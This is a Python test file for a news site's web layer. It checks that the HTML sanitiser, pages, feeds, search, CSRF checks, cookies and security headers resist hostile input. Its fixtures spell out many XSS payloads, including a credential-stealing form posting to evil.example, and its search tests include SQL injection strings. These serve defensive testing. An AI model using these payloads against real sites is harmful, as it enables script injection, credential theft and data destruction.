"""Hostile content, forged forms, broken search input: nothing gets through."""

from __future__ import annotations

import re

import pytest
from lxml import html as lhtml

from newsdesk.model import Article, Image
from newsdesk.web.auth import hash_password
from newsdesk.web.safe import clean_html

from .conftest import client_for

#: a fixture page's body, written to break out of every sanitiser we know of
HOSTILE_HTML = """
<p>Opening paragraph about the harbour vote.</p>
<script>window.__pwned = 1; alert('script')</script>
<p onclick="alert('onclick')" onmouseover="window.__pwned=2">Hover me</p>
<img src="x" onerror="window.__pwned=3">
<img src="javascript:alert('imgsrc')">
<a href="javascript:alert('link')">js link</a>
<a href="JaVaScRiPt&#58;alert('entity')">entity-encoded link</a>
<a href=" &#x6A;avascript:alert(1)">hex link</a>
<a href="vbscript:msgbox(1)">vb</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<svg onload="window.__pwned=4"><script>alert('svg')</script><a xlink:href="javascript:alert(5)"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert('math')></style></mglyph></table></mtext></math>
<style>body{background:url("javascript:alert('css')")} * {display:none}</style>
<p style="background-image:url(javascript:alert('style'));position:fixed;top:0">styled</p>
<div style="behavior:url(x.htc);width:expression(alert('expr'))">ie</div>
<iframe src="https://evil.example/"></iframe>
<object data="evil.swf"></object><embed src="evil.swf">
<form action="https://evil.example/steal"><input name="pw" type="password"><button>go</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></p></noscript>
<template><img src=x onerror=alert('tpl')></template>
<p>Closing paragraph <a href="https://example.org/ok">a fine link</a>.</p>
"""
HOSTILE_TITLE = "Harbour vote <script>alert('title')</script> \"quoted\" & <b>bold</b>"


def _add_hostile(data) -> int:
    art = Article(
        title=HOSTILE_TITLE, authors=["<img src=x onerror=alert('author')>"], published="2026-03-02T10:00:00Z",
        site_name="Evil <i>Outlet</i>", url="https://evil.example/news/a", language="en", section="World",
        description="Standfirst <script>alert('desc')</script>",
        image=Image(url="javascript:alert('img')", caption="<svg onload=alert(1)>caption"),
        body="Opening paragraph about the harbour vote. <img src=x onerror=alert('body')> Closing paragraph.",
        body_html=HOSTILE_HTML,
    )
    return data.store.upsert_article(art).article_id


def _assert_inert(doc) -> None:
    assert not doc.xpath("//script[not(@src='/static/site.js')]")
    for tag in ("iframe", "object", "embed", "svg", "math", "style", "base", "form[@action!='/subscribe' "
                "and @action!='/search']", "template", "noscript"):
        assert not doc.xpath(f"//main//{tag}"), tag
    assert not doc.xpath("//meta[@http-equiv]")
    for el in doc.iter():
        if not isinstance(el.tag, str):
            continue
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), (el.tag, name)
            if name in ("href", "src", "action", "xlink:href"):
                v = re.sub(r"[\s\x00-\x1f]", "", value).lower()
                assert not v.startswith(("javascript:", "vbscript:", "data:")), (el.tag, value)
            if name == "style":
                raise AssertionError(f"style attribute survived on {el.tag}")


def test_clean_html_strips_everything_active():
    out = clean_html(HOSTILE_HTML, "https://evil.example/news/a")
    doc = lhtml.fromstring(f"<div>{out}</div>")
    _assert_inert(doc)
    assert "Opening paragraph" in out and "a fine link" in out
    assert 'href="https://example.org/ok"' in out


def test_article_page_with_hostile_content_is_inert(client, data):
    aid = _add_hostile(data)
    r = client.get(f"/article/{aid}")
    assert r.status_code == 200
    doc = lhtml.fromstring(r.text)
    _assert_inert(doc)
    assert "alert(" not in "".join(doc.xpath("//main//@*"))
    assert "<script>alert('title')" not in r.text  # escaped, shown as text
    assert doc.xpath("//h1[@id='headline']")[0].text_content() == HOSTILE_TITLE
    csp = r.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "object-src 'none'" in csp
    j = client.get(f"/article/{aid}.json").json()
    assert "<script" not in j["body_html"] and "onerror" not in j["body_html"]


def test_hostile_text_in_search_snippets_and_feeds_is_escaped(client, data):
    _add_hostile(data)
    r = client.get("/search", params={"q": "harbour"})
    assert r.status_code == 200
    _assert_inert(lhtml.fromstring(r.text))
    assert "<img src=x onerror" not in r.text
    rss = client.get("/feed.rss").text
    assert "<script>" not in rss


@pytest.mark.parametrize("q", [
    "'; DROP TABLE articles; --", '"', '"unbalanced', "NEAR(", "border OR", "* AND *", ") OR 1=1 --",
    "<script>alert(1)</script>", "title:border", "\x00\x01", "ü" * 300, "^border", "-border", "{}[]",
])
def test_search_input_cannot_break_sql_or_page(client, data, q):
    before = data.counts()["articles"]
    r = client.get("/search", params={"q": q, "section": "'; --", "outlet": "\"", "language": "'"})
    assert r.status_code == 200
    assert "<script>alert(1)</script>" not in r.text
    _assert_inert(lhtml.fromstring(r.text))
    assert client.get("/search.json", params={"q": q}).status_code == 200
    assert data.counts()["articles"] == before


# -- admin and forms -------------------------------------------------------------------------------
def _login(client, data, user="editor", pw="correct horse"):
    data.user_create(user, hash_password(pw))
    page = client.get("/admin/login").text
    csrf = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
    return client.post("/admin/login", data={"csrf": csrf, "username": user, "password": pw},
                       follow_redirects=False)


def _admin_csrf(client) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', client.get("/admin").text.split("<main", 1)[1]).group(1)


def test_admin_refuses_without_session(client):
    r = client.get("/admin", follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/admin/login"
    for path in ("/admin/story/1/pin", "/admin/story/1/hide", "/admin/story/merge", "/admin/sources/add",
                 "/admin/article/1/section", "/admin/story/1/split", "/admin/story/1/headline"):
        assert client.post(path, data={"value": "1"}).status_code == 403, path
    client.cookies.set("nd_session", "forged-token")
    assert client.post("/admin/story/1/pin", data={"value": "1"}).status_code == 403
    assert client.get("/admin", follow_redirects=False).status_code == 303


def test_login_sets_a_safe_cookie_and_rejects_bad_passwords(client, data):
    r = _login(client, data)
    assert r.status_code == 303
    cookie = r.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=strict" in cookie
    fresh = client_for(client.app)
    page = fresh.get("/admin/login").text
    csrf = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
    bad = fresh.post("/admin/login", data={"csrf": csrf, "username": "editor", "password": "nope-nope"})
    assert bad.status_code == 401
    assert fresh.post("/admin/login", data={"username": "editor", "password": "correct horse"}).status_code == 403


def test_csrf_is_checked_on_every_admin_post(client, data):
    _login(client, data)
    sid = client.get("/index.json").json()["top_stories"][1]["id"]
    assert client.post(f"/admin/story/{sid}/pin", data={"value": "1"}).status_code == 403
    assert client.post(f"/admin/story/{sid}/pin", data={"value": "1", "csrf": "wrong"}).status_code == 403
    csrf = _admin_csrf(client)
    cross = client.post(f"/admin/story/{sid}/pin", data={"value": "1", "csrf": csrf},
                        headers={"origin": "https://evil.example"})
    assert cross.status_code == 403
    ok = client.post(f"/admin/story/{sid}/pin", data={"value": "1", "csrf": csrf}, follow_redirects=False)
    assert ok.status_code == 303


def test_subscribe_needs_a_csrf_token(client):
    assert client.post("/subscribe", data={"email": "a@example.org"}).status_code == 403
    assert client.post("/subscribe", data={"email": "a@example.org", "csrf": "1.abc"}).status_code == 403


# -- security headers and cookies on every kind of response -----------------------------------------
_HEADERS = ("content-security-policy", "x-content-type-options", "referrer-policy", "x-frame-options")


def test_security_headers_on_every_route_kind(client, data):
    aid = client.get("/index.json").json()["top_stories"][0]["id"]
    etag = client.get("/").headers["etag"]
    # asked at once: the home's bytes, so its ETag, change when its cache entry (30 s here) expires on a
    # slow machine and its relative times ("3 minutes ago") render anew (this test once failed so)
    not_modified = client.get("/", headers={"if-none-match": etag})
    responses = {
        "304": not_modified,
        "html": client.get("/"), "cached html": client.get("/"), "json": client.get("/index.json"),
        "rss": client.get("/feed.rss"), "atom": client.get("/feed.atom"), "jsonfeed": client.get("/feed.json"),
        "story": client.get(f"/story/{aid}"), "search": client.get("/search", params={"q": "a"}),
        "404": client.get("/nope/nope"),
        "400 feed": client.get("/article/1/feed.rss"), "openapi": client.get("/openapi.json"),
        "healthz": client.get("/healthz"), "static": client.get("/static/site.css"),
        "demo image": client.get("/demo-img/1.svg"), "login form": client.get("/admin/login"),
        "admin redirect": client.get("/admin", follow_redirects=False),
        "admin post refused": client.post("/admin/pin", data={}, follow_redirects=False),
        "subscribe refused": client.post("/subscribe", data={}, follow_redirects=False),
    }
    from newsdesk.web.ratelimit import RateLimiter

    client.app.limits = RateLimiter(clock=lambda: 1000.0)  # no refill however slow the machine
    for i in range(40):
        limited = client.get("/search", params={"q": f"b{i}"})
    responses["429"] = limited
    assert limited.status_code == 429 and responses["304"].status_code == 304
    for kind, r in responses.items():
        missing = [h for h in _HEADERS if h not in r.headers]
        assert not missing, f"{kind} ({r.status_code}) lacks {missing}"
    r = _login(client, data)
    cookie = r.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=strict" in cookie and "path=/" in cookie
    assert all(h in r.headers for h in _HEADERS)
